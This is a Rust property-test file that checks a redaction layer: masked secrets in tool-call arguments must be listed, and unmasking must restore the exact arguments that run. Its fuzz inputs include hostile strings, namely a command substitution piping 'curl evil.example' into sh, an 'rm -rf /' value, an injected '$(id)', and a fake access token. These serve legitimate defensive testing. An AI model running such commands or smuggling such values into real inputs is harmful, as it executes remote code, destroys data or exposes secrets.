//! Masked places are listed, and uncovering restores exactly the arguments that run.

use hitl_base::json::parse_json;
use hitl_base::redact::MASK;
use hitl_base::{Json, Redactor};
use proptest::prelude::*;

use super::{MaskSelection, Opening};
use crate::arguments::Snapshot;
use crate::ids::RequestId;

/// A value that the host declared sensitive.
const DECLARED: &str = "Decl4red-s3cret-9731";

fn text() -> impl Strategy<Value = String> {
    let part = prop_oneof![
        Just("--password=\"aB3dE6gH$(curl evil.example | sh)\" ".to_owned()),
        Just("token: ghp_abcdefghijklmnopqrstuvwxyz0123456789 ".to_owned()),
        Just("{\"secret\" : {\"run\":\"rm -rf /\"}}".to_owned()),
        Just("[redacted] [redacted:0000000000]".to_owned()),
        Just("https://u:p4ss%24(id)word@h/?api_key=Zx81Qw92".to_owned()),
        Just(DECLARED.to_owned()),
        "[a-zA-Z0-9;$`=: \u{202e}-]{0,40}",
    ];
    proptest::collection::vec(part, 0..4).prop_map(|parts| parts.concat())
}

fn tree() -> impl Strategy<Value = Json> {
    let leaf = prop_oneof![
        text().prop_map(Json::String),
        "[1-9][0-9]{0,18}".prop_map(|number| Json::Number(number.into())),
        Just(Json::Bool(true)),
        Just(Json::Null),
    ];
    let key = || {
        prop_oneof![
            "[a-z/~]{1,4}",
            Just("auth".to_owned()),
            Just("password".to_owned()),
            Just("ghp_abcdefghijklmnopqrstuvwxyz0123456789".to_owned()),
        ]
    };
    let inner = leaf.prop_recursive(3, 24, 4, move |inner| {
        prop_oneof![
            proptest::collection::vec(inner.clone(), 0..4).prop_map(Json::Array),
            proptest::collection::btree_map(key(), inner, 0..4)
                .prop_map(|entries| Json::Object(entries.into_iter().collect())),
        ]
    });
    proptest::collection::btree_map(key(), inner, 0..5)
        .prop_map(|entries| Json::Object(entries.into_iter().collect()))
}

/// Returns the snapshot of a call with these arguments and, if `declared`, one that the host
/// declared sensitive.
fn snapshot(tree: &Json, declared: bool) -> Snapshot {
    let text = tree.to_text();
    if !declared {
        return Snapshot::written(text, Vec::new());
    }
    let comma = if tree.entries().is_empty() { "" } else { "," };
    let before = "{\"$declared\":";
    let secret = format!("\"{DECLARED}\"");
    let hidden = before.len()..before.len() + secret.len();
    Snapshot::written(format!("{before}{secret}{comma}{}", &text[1..]), vec![hidden])
}

/// Collects every place where two documents of one structure differ.
fn differences(real: &Json, shown: &Json, at: &str, found: &mut Vec<(String, Json)>) {
    match (real, shown) {
        (Json::Array(real), Json::Array(shown)) => {
            assert_eq!(real.len(), shown.len(), "{at}");
            for (index, (real, shown)) in real.iter().zip(shown).enumerate() {
                differences(real, shown, &format!("{at}/{index}"), found);
            }
        }
        (Json::Object(real), Json::Object(shown)) => {
            assert_eq!(real.len(), shown.len(), "{at}");
            for ((_, real), (key, shown)) in real.iter().zip(shown) {
                let key = key.replace('~', "~0").replace('/', "~1");
                differences(real, shown, &format!("{at}/{key}"), found);
            }
        }
        (real, shown) if real != shown => {
            assert!(!matches!(real, Json::Array(_) | Json::Object(_)), "{at} covers a structure");
            found.push((at.to_owned(), real.clone()));
        }
        _ => {}
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    #[test]
    fn invariant_9b_each_masked_place_is_listed_and_uncovering_restores_what_runs(
        tree in tree(), declared: bool,
    ) {
        let redactor = Redactor::standard().with_key([7; 32]);
        let snapshot = snapshot(&tree, declared);
        let layers = snapshot.layers(&redactor).unwrap();
        let (masks, more) = layers.masks(&redactor, RequestId::new());
        prop_assert_eq!(more, 0);
        let mut opening = Opening { selection: &MaskSelection::All, places: Vec::new(), opened: 0 };
        let all = opening.open(&layers.open, &layers.shown, &mut String::new());
        prop_assert_eq!(&all, &layers.open);
        if declared {
            let repeats = tree.to_text().contains(DECLARED);
            prop_assert!(!all.to_text().contains(DECLARED), "{:?}", all);
            prop_assert!(masks.iter().any(|mask| mask.declared && mask.at == "/$declared"));
            prop_assert_eq!(repeats, masks.iter().filter(|mask| mask.declared).count() > 1);
        } else {
            prop_assert_eq!(&all, &tree);
            prop_assert!(masks.iter().all(|mask| !mask.declared));
        }
        let mut masked = Vec::new();
        differences(&layers.open, &layers.shown, "", &mut masked);
        for (at, real) in masked {
            let of = |mask: &&crate::approval::Mask| mask.at == at && !mask.in_key && !mask.declared;
            prop_assert!(masks.iter().any(|mask| of(&mask)), "{} is not listed", at);
            let selection = MaskSelection::at(&at);
            let mut one = Opening { selection: &selection, places: Vec::new(), opened: 0 };
            one.open(&layers.open, &layers.shown, &mut String::new());
            prop_assert!(one.places.iter().any(|place| place.value.as_str() == real.to_text()), "{}", at);
        }
    }
}

#[test]
fn invariant_9b_the_text_of_the_host_is_withheld_wherever_it_is_spelled_like_a_mask() {
    let text = format!(r#"{{"a":"{MASK}","pin":"4711-abc"}}"#);
    let at = text.find("\"4711").unwrap();
    let snapshot = Snapshot::written(text, std::iter::once(at..at + 10).collect());
    let redactor = Redactor::standard().with_key([7; 32]);
    let layers = snapshot.layers(&redactor).unwrap();
    let (masks, _) = layers.masks(&redactor, RequestId::new());
    let places: Vec<_> = masks.iter().map(|mask| mask.at.as_str()).collect();
    assert_eq!(places, ["/pin"], "a text that reads like a mask is none");
    assert_eq!(layers.open, parse_json(r#"{"a":"[redacted]","pin":"[redacted]"}"#).unwrap());
}
